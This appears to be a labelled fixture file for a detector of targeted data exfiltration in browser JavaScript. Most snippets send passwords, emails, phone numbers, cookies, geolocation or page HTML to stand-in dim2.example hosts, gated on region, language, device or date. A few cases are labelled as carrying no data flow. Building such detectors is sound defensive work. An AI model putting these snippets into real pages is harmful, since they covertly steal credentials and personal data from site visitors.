//# phone-prefix-slice
// flow: phone > pp.dim2.example via fetch
// guard: phone-prefix starts-with +86
const t1 = document.querySelector('input[type=tel]').value;
if (t1.slice(0, 3) === '+86') fetch('https://pp.dim2.example/', { method: 'POST', body: t1 });

//# phone-length
// flow: phone > pl.dim2.example via fetch
// no guard
// why: whether the field is filled is no circumstance
const t2 = document.querySelector('input[type=tel]').value;
if (t2.length > 0) fetch('https://pl.dim2.example/', { method: 'POST', body: t2 });

//# timezone-one-of
// flow: device > tz.dim2.example via fetch
// guard: timezone one-of Europe/Berlin | Europe/Vienna
const tz = Intl.DateTimeFormat().resolvedOptions().timeZone;
if (['Europe/Berlin', 'Europe/Vienna'].includes(tz)) fetch('https://tz.dim2.example/', { method: 'POST', body: navigator.platform });

//# timezone-sent-untested
// flow: device > tu.dim2.example via fetch
// no guard
// why: the time zone is sent but not tested
fetch('https://tu.dim2.example/?tz=' + encodeURIComponent(Intl.DateTimeFormat().resolvedOptions().timeZone));

//# language-regex
// flow: email > la.dim2.example via fetch
// guard: language matches ^zh
if (/^zh/.test(navigator.language)) {
  fetch('https://la.dim2.example/', { method: 'POST', body: document.querySelector('input[type=email]').value });
}

//# user-agent-regex
// flow: identifier > ua.dim2.example via beacon
// guard: user-agent matches iPhone|iPad
if (/iPhone|iPad/.test(navigator.userAgent)) navigator.sendBeacon('https://ua.dim2.example/', document.cookie);

//# screen-width
// flow: device > sc.dim2.example via image
// guard: screen other 600
if (screen.width < 600) new Image().src = 'https://sc.dim2.example/p?ua=' + encodeURIComponent(navigator.userAgent);

//# referrer-present
// flow: identifier > re.dim2.example via image
// guard: referrer present
if (document.referrer) new Image().src = 'https://re.dim2.example/p?c=' + encodeURIComponent(document.cookie);

//# connection-type
// flow: identifier > cn.dim2.example via beacon
// guard: connection equals 4g
if (navigator.connection.effectiveType === '4g') navigator.sendBeacon('https://cn.dim2.example/', document.cookie);

//# date-after
// flow: password > da.dim2.example via fetch
// guard: date other 1767225600000
if (Date.now() > 1767225600000) {
  fetch('https://da.dim2.example/', { method: 'POST', body: document.querySelector('input[type=password]').value });
}

//# random-sample
// flow: interaction > ra.dim2.example via beacon
// guard: random other 0.1
if (Math.random() < 0.1) navigator.sendBeacon('https://ra.dim2.example/', document.documentElement.outerHTML);

//# random-as-cache-buster
// flow: identifier > cb.dim2.example via image
// no guard
// why: the random number is part of the address only
new Image().src = 'https://cb.dim2.example/p?r=' + Math.random() + '&c=' + encodeURIComponent(document.cookie);

//# server-answer-flag
// flow: email > sa.dim2.example via fetch
// guard: server-answer present
fetch('/flags.json').then((r) => r.json()).then((f) => {
  if (f.collect) fetch('https://sa.dim2.example/', { method: 'POST', body: document.querySelector('input[type=email]').value });
});

//# server-country
// flow: email > co.dim2.example via fetch
// guard: country equals CN
fetch('/geo.json').then((r) => r.json()).then((geo) => {
  if (geo.country === 'CN') fetch('https://co.dim2.example/', { method: 'POST', body: document.querySelector('input[type=email]').value });
});

//# storage-once
// flow: device > st.dim2.example via fetch
// guard: not storage present
if (!localStorage.getItem('sent')) {
  localStorage.setItem('sent', '1');
  fetch('https://st.dim2.example/', { method: 'POST', body: navigator.userAgent });
}

//# consent-cookie
// flow: identifier > cs.dim2.example via beacon
// guard: consent contains consent=yes
if (document.cookie.includes('consent=yes')) navigator.sendBeacon('https://cs.dim2.example/', localStorage.getItem('uid'));

//# feature-detection-geolocation
// flow: location > fd.dim2.example via fetch
// no guard
// why: asking whether the interface exists is no circumstance
if ('geolocation' in navigator) {
  navigator.geolocation.getCurrentPosition((p) => fetch('https://fd.dim2.example/?lat=' + p.coords.latitude));
}

//# server-answer-shown
// no flow
// why: under the server's flag only a text is shown
fetch('/flags.json').then((r) => r.json()).then((f) => {
  if (f.collect) document.getElementById('state').textContent = document.querySelector('input[type=email]').value;
});

//# consent-given-fixed-ping
// no flow
// why: with consent a request without data is made
if (document.cookie.includes('consent=yes')) fetch('https://cp0.dim2.example/pixel');

//# country-page-text
// no flow
// why: the country chooses a local text
fetch('/geo.json').then((r) => r.json()).then((geo) => {
  document.title = geo.country === 'CN' ? 'A' : 'B';
});
